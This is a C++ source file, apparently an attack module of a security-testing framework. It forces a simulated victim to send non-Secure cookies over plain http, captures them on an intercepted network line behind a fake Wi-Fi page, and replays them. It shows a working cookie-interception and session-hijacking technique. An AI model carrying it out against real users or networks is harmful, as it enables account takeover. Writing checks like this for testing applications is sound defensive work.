// wire-cookie: in the victim's network, who has signed in over https as he should. A link to http,
// on the app's own name or on one below it that need not even exist, makes the browser show in the
// clear every cookie that is not Secure (RFC 6265bis 4.1.2.5; HSTS with includeSubDomains, RFC
// 6797). Option "wait": how long after the sign-in; the cookie may live longer than the HSTS.
#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/session.h"
#include "core/attack/stolen.h"

namespace parapet::attack {
namespace {

class WireCookie final : public Agent {
    void run(Target& target) override {
        if (target.line() == nullptr || !victim_signs_in(target)) return;
        target.wait(wait_option(target, Duration::zero()));
        std::size_t seen = 0;
        look(target, seen);
        // What is renewed, or comes with a new password, is set elsewhere than at the sign-in.
        for (std::string const& routine : split(target.option(option::kLater), ',')) {
            (void)target.victim()->does(routine);
            look(target, seen);
        }
    }

    // seen: how many exchanges of the line he has looked at.
    static void look(Target& target, std::size_t& seen) {
        std::string const app = target.surface().host;
        std::string const below = random_word(target, 6) + "." + app;
        // He answers himself: what reaches the app may use a token up.
        target.line()->meddle([](http::Request const&, Line::Beyond const&) {
            return page("<h1>Welcome to the Wi-Fi</h1>");
        });
        // A cookie may have a path of its own.
        std::vector<std::string> addresses{app + "/", below + "/"};
        if (Endpoint const* refresh = endpoint_option(target, option::kRefresh, "refresh"))
            addresses.push_back(app + refresh->path);
        for (std::string const& address : addresses) {
            target.victim()->opens("http://" + address);
            target.victim()->turns_away();
        }
        target.line()->leave();
        use_what_passed(target, seen);
    }

    static void use_what_passed(Target& target, std::size_t& seen) {
        std::vector<std::string> headers;
        auto const& passed = target.line()->passed();
        for (; seen < passed.size(); ++seen)
            if (passed[seen].request)
                if (auto const cookies = passed[seen].request->headers.get("cookie"))
                    headers.push_back(*cookies);
        target.note(std::to_string(headers.size()) + " requests with cookies passed in the clear.");
        use_cookie_headers(target, headers);
    }
};

}  // namespace

std::unique_ptr<Agent> make_wire_cookie() { return std::make_unique<WireCookie>(); }

}  // namespace parapet::attack
